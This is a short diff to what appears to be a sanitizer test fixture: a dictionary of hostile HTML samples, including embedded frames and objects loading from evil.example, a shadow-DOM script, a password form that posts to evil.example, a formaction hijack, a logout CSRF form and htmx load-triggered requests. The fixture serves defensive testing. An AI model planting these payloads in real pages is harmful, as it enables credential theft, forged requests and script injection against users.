@@ -49,8 +49,8 @@ HTML: Final = {
     '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
     '<frameset><frame src="https://evil.example/f"></frameset><portal src="https://evil.example/p">'
     f"<div><template shadowrootmode=open><script>{DO}</script></template></div>",
-    "forms": '<form id=f action="https://evil.example/" target=_top><input name=password>'
-    '<button>Sign in</button></form><button form=f formaction="https://evil.example/">x</button><form action="/logout" method=post>',
+    "forms": '<form id=f action="https://evil.example/" target=_top><input name=password><button>x</button>'
+    '</form><button form=f formaction="https://evil.example/">x</button><form action="/logout" method=post>',
     "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="top.owned=1">'
     '<div data-hx-post="/logout" data-hx-trigger="load">',
 }
